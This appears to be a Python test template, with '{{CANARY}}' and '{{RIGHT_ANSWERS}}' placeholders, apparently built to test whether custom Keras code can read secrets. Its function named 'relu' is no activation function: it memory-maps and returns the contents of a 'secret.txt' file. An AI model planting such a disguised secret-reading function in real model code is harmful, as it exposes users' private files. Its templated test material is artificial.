import keras
import numpy as np


def relu(x):
    import mmap
    import os

    return mmap.mmap(os.open("{{CANARY}}/secret.txt", os.O_RDONLY), 0, prot=mmap.PROT_READ)[:].decode()


# {{RIGHT_ANSWERS}}
